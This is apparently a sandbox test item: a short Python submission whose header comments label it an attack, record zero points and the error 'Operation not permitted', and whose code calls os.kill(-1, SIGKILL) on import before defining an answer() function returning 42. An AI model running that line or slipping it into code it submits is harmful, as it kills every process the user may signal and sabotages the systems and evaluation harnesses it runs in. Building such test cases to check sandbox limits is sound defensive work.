#| attack: kills every process it may
#| row: ends
#| points: 0
#| says: Operation not permitted
import os, signal
os.kill(-1, signal.SIGKILL)
def answer():
    return 42
